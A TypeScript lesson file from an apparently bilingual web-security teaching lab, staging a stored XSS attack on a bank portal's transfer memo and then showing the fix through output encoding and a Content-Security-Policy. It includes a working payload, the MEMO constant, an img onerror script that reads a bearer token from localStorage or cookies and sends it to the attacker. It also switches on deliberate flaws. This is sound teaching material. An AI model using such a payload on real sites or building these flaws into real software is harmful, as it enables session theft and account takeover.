import type { LessonInput } from '../contract/lessons/lesson.ts'
import { call, here, login, p, verdicts, w } from './write.ts'

type Step = LessonInput['steps'][number]
const TRANSFER = 'POST /transfer'

const weakness = (id: 'stored-xss' | 'token-in-web-storage', on: boolean, label: ReturnType<typeof w>) =>
  ({ do: 'weakness', weakness: id, on, label }) as const
const AS_PAGE: { headers: [string, string][] } = { headers: [['Accept', 'text/html']] }
/** What Mallory writes as a memo. What it takes goes no further than the portal's own API: to her, as the memo of another transfer. */
const MEMO = [
  '<img src="data:," onerror="',
  "const token = localStorage.getItem('access_token');",
  "fetch('/transfer', { method: 'POST',",
  "headers: { 'Content-Type': 'application/json', ...(token && { Authorization: 'Bearer ' + token }) },",
  "body: JSON.stringify({ to: 'mallory', amountCents: 1, memo: token ?? document.cookie }) })",
  '">',
].join(' ')

/** A script in the portal's page, let in by two deliberate flaws: what it takes, and what it does. For clients `cookie`, `script` and `mallory`. */
export const injectedScript: Step = {
  id: 'injected-script',
  title: w('A script is injected (XSS)', '脚本被注入（XSS）'),
  goal: w('What the page can read is stolen, and works elsewhere', '页面能读到的被偷走，在别处也能用'),
  narrative: [
    here(
      'So that this happens for real, two deliberate flaws of the portal go on. It shows the memo of a transfer as HTML instead of encoding it for the place where it stands, and its policy lets inline script run. And its page can keep a token in `localStorage`.',
      '为了让这一切真实发生，门户的两个故意留下的缺陷被打开。它把转账附言当作 HTML 显示，而没有按所在位置编码，其策略也允许内联脚本运行。它的页面还可以把令牌存进 `localStorage`。',
    ),
    p(
      'Mallory sends Alice one cent, with a script in the memo. In the portal’s page that script can do what the page’s own script can, and reads what that can read: `localStorage` and `document.cookie`.',
      'Mallory 给 Alice 转账一分钱，附言里藏着脚本。在门户页面里，页面自己的脚本能做什么，它就能做什么；能读什么，它就能读什么：`localStorage` 和 `document.cookie`。',
      'HTML §12.2.3',
      'RFC 6265 §4.1.2.6',
    ),
    here(
      'What it takes stays in the lab: it goes to Mallory as the memo of another transfer. Here a client of the lab sends what the script would. In the desktop app, open Alice·Script as a real browser and log in for “a token in localStorage”: the script does it by itself.',
      '它拿走的东西不会离开实验室：它作为另一笔转账的附言发给 Mallory。这里由实验室的客户端发送脚本会发送的请求。在桌面应用里，以真实浏览器打开 Alice·Script，选择“localStorage 中的令牌”登录：脚本会自己动手。',
    ),
  ],
  predict: {
    question: w('Which token does Mallory carry home?', 'Mallory 能带走哪个令牌？'),
    choices: [
      {
        text: w('Both', '两个都能'),
        isRight: false,
        why: p(
          'A cookie with `HttpOnly` is left out of what scripts can read.',
          '带 `HttpOnly` 的 Cookie 不在脚本能读的范围之内。',
          'RFC 6265 §4.1.2.6',
        ),
      },
      {
        text: w('The one that the script keeps', '脚本保存的那个'),
        isRight: true,
        why: p(
          'What one script of the page can read, every script of the page can. On another machine the token is as good: it is a bearer token.',
          '页面里一个脚本能读的，所有脚本都能读。换一台机器，令牌照样有效：它是 bearer 令牌。',
          'RFC 6750 §1.2',
        ),
      },
      {
        text: w('Neither: `localStorage` is private to the page', '都不能：`localStorage` 是页面私有的'),
        isRight: false,
        why: p(
          'It is private to the **origin**, and the injected script runs in just that.',
          '它是**源**私有的，而注入的脚本正是在这个源里运行。',
          'HTML §12.2.3',
        ),
      },
    ],
  },
  do: [
    weakness('stored-xss', true, w('Switch on: memos are shown as HTML', '打开：附言当作 HTML 显示')),
    weakness('token-in-web-storage', true, w('Switch on: a token in `localStorage`', '打开：令牌存进 `localStorage`')),
    login('mallory', w('Mallory logs in', 'Mallory 登录')),
    call('mallory', TRANSFER, w('Mallory sends Alice a transfer with a script as its memo', 'Mallory 给 Alice 转账，附言是脚本'), {
      body: JSON.stringify({ to: 'alice', amountCents: 1, memo: MEMO }),
    }),
    call(
      'script',
      'GET /transfers',
      w('Alice’s page with the token in `localStorage` shows it', 'Alice 的页面（令牌在 `localStorage`）显示它'),
      AS_PAGE,
    ),
    {
      do: 'injected-script',
      client: 'script',
      exchange: { nth: 3 },
      label: w('Its script sends Mallory the token that it reads', '脚本把读到的令牌发给 Mallory'),
    },
    call('mallory', 'GET /transfers', w('Mallory looks at what came in', 'Mallory 查看收到的转账')),
    {
      do: 'present',
      client: 'mallory',
      token: 'access-token',
      exchange: { nth: 5 },
      label: w('Call /me as Mallory, with the token from the memo', '以 Mallory 的身份用附言里的令牌调用 /me'),
    },
    call(
      'cookie',
      'GET /transfers',
      w('Alice’s page with the cookie shows the same memo', 'Alice 的页面（Cookie）显示同一条附言'),
      AS_PAGE,
    ),
    {
      do: 'injected-script',
      client: 'cookie',
      exchange: { nth: 7 },
      label: w(
        'The same script sends a transfer from this page; the cookie goes along by itself',
        '同一个脚本从这个页面发起转账，Cookie 自动带上',
      ),
    },
  ],
  check: [
    verdicts(
      ['allowed', 'allowed', 'allowed', 'allowed', 'allowed', 'allowed', 'allowed', 'allowed'],
      w('Nothing of it is refused: to the server each request is in order', '没有一个被拒绝：在服务器看来，每个请求都正常'),
    ),
    {
      check: 'body',
      nth: 3,
      in: 'response',
      contains: '<img src="data:," onerror=',
      label: w('The memo reached Alice’s page as markup', '附言作为标记到达 Alice 的页面'),
    },
    {
      check: 'header',
      nth: 3,
      in: 'response',
      name: 'Content-Security-Policy',
      contains: "'unsafe-inline'",
      label: w('And the page’s policy lets its script run', '而页面的策略允许其中的脚本运行'),
    },
    {
      check: 'body',
      nth: 5,
      in: 'response',
      contains: '"memo":"eyJ',
      label: w('Mallory received a token as a memo', 'Mallory 收到的附言是一个令牌'),
    },
    {
      check: 'claim',
      nth: 6,
      in: 'request',
      name: 'sub',
      is: 'alice',
      label: w('It is Alice’s, and works for Mallory', '它是 Alice 的，Mallory 也能用'),
    },
    {
      check: 'body',
      nth: 8,
      in: 'response',
      contains: '"memo":""',
      label: w('In the page with the cookie the script could read nothing', '在用 Cookie 的页面里，脚本什么也读不到'),
    },
    {
      check: 'header',
      nth: 8,
      in: 'request',
      name: 'Sec-Fetch-Site',
      contains: 'same-origin',
      label: w('Yet it sent a transfer in Alice’s name, from the portal’s own page', '但它还是从门户自己的页面、以 Alice 的名义转了账'),
    },
  ],
  after: [
    p(
      '`HttpOnly` keeps the token from being carried away. It does not keep the script from **using** it while the page is open: whoever runs script in the page has already won that page.',
      '`HttpOnly` 防止令牌被带走，但防不住脚本在页面打开期间**使用**它：谁能在页面里运行脚本，谁就已经攻下了这个页面。',
      'RFC 6265 §4.1.2.6',
      'RFC 6265bis §8.8.1',
    ),
  ],
  pins: ['credential'],
  diff: [6, 8],
  notes: {
    minutes: 3,
    say: w('Two different losses: a key that is copied, and a hand that is guided.', '两种不同的损失：钥匙被复制，和手被操纵。'),
    watchFor: w('"Then cookies are safe." Point at the last request.', '有人会说“那 Cookie 就安全了”。请他看最后一个请求。'),
  },
}

/** The same memo once the flaws are off. */
export const encodedMemo: Step = {
  id: 'encoded',
  title: w('The hole is closed', '把洞堵上'),
  goal: w('The same memo is text, and no script runs', '同一条附言成了文本，没有脚本运行'),
  narrative: [
    p(
      'Both flaws go off. The memo lies in the database as Mallory wrote it; what changes is how it gets into the page. Encoding is the last step before the page, where it is known what the text will stand in.',
      '两个缺陷都关掉。附言在数据库里仍是 Mallory 写的原样；变的是它进入页面的方式。编码是进入页面前的最后一步，那时才知道文本会落在什么位置。',
      'OWASP ASVS 5 V1.1.2',
    ),
    p(
      'A `Content-Security-Policy` is the second line: it reduces what script that got in all the same can do.',
      '`Content-Security-Policy` 是第二道防线：脚本万一还是混了进来，它能减少危害。',
      'OWASP ASVS 5 V3.4.3',
    ),
  ],
  do: [
    weakness('stored-xss', false, w('Switch off: memos are encoded again', '关闭：附言重新编码')),
    weakness('token-in-web-storage', false, w('Switch off: no token in `localStorage`', '关闭：令牌不再存进 `localStorage`')),
    call('cookie', 'GET /transfers', w('Alice’s page shows the memo again', 'Alice 的页面再次显示这条附言'), AS_PAGE),
    {
      do: 'injected-script',
      client: 'cookie',
      exchange: { nth: 1 },
      label: w('What its script does now', '现在脚本会做什么'),
    },
  ],
  check: [
    verdicts(['allowed'], w('The page alone: no transfer was sent', '只有页面本身：没有发出转账')),
    {
      check: 'body',
      nth: 1,
      in: 'response',
      contains: '&lt;img src=&quot;data:,&quot; onerror=',
      label: w('The memo is there, as text', '附言还在，但只是文本'),
    },
    { check: 'body', nth: 1, in: 'response', contains: '<img', isPresent: false, label: w('Nothing of it is markup', '没有任何标记') },
    {
      check: 'header',
      nth: 1,
      in: 'response',
      name: 'Content-Security-Policy',
      contains: "'unsafe-inline'",
      isPresent: false,
      label: w('And the policy lets no inline script run', '策略也不再允许内联脚本运行'),
    },
  ],
  after: [
    p(
      'Where the token is kept decides what an injected script carries away. Whether one is injected at all, the encoding decides.',
      '令牌放在哪里，决定注入的脚本能带走什么；会不会有脚本注入，则由编码决定。',
      'RFC 6265 §4.1.2.6',
      'OWASP ASVS 5 V1.2.1',
    ),
  ],
  notes: { minutes: 1, say: w('First the hole, then the lock: in this order.', '先堵洞，再上锁：按这个顺序。') },
}
